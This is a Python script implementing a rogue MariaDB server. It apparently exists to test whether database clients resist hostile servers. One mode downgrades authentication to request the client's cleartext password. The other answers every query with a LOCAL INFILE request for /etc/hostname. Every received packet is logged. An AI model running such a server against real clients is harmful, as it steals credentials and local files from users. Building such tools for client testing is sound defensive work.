#!/usr/bin/env python3
"""What poses as a MariaDB server and wants what it must not get. Prints its port, serves one client after the other until it is
ended, and writes to FILE all that came.

  maria_rogue.py ADDRESS FILE clear    asks for the password itself
  maria_rogue.py ADDRESS FILE file     lets everybody in, and answers each statement by asking for /etc/hostname
"""
import socket
import sys

PROTOCOL_41, PLUGIN_AUTH, SECURE = 0x200, 0x80000, 0x8000


def packet(number, payload):
    return len(payload).to_bytes(3, "little") + bytes([number]) + payload


def greeting():
    able = PROTOCOL_41 | PLUGIN_AUTH | SECURE | 0x80 | 0x1 | 0x8
    return (b"\x0a5.5.5-10.11.0-MariaDB\0" + (7).to_bytes(4, "little") + b"12345678\0" + (able & 0xFFFF).to_bytes(2, "little")
            + b"\x2d\x02\0" + (able >> 16).to_bytes(2, "little") + b"\x15" + b"\0" * 10 + b"123456789012\0mysql_native_password\0")


def read_packet(client, log):
    head = client.recv(4, socket.MSG_WAITALL)
    if len(head) < 4:
        return None, 0
    body = client.recv(int.from_bytes(head[:3], "little"), socket.MSG_WAITALL)
    log.write(head + body)
    log.flush()
    return body, head[3]


def serve(client, log, mode):
    client.sendall(packet(0, greeting()))
    _, number = read_packet(client, log)
    if mode == "clear":
        client.sendall(packet(number + 1, b"\xfemysql_clear_password\0"))
        read_packet(client, log)
        return
    client.sendall(packet(number + 1, b"\0\0\0\x02\0\0\0"))
    while True:
        body, number = read_packet(client, log)
        if body is None:
            return
        client.sendall(packet(number + 1, b"\xfb/etc/hostname"))


def main():
    address, file, mode = sys.argv[1:]
    server = socket.create_server((address, 0))
    print(server.getsockname()[1], flush=True)
    with open(file, "wb") as log:
        while True:
            client, _ = server.accept()
            client.settimeout(5)
            try:
                serve(client, log, mode)
            except OSError:
                pass
            client.close()


main()
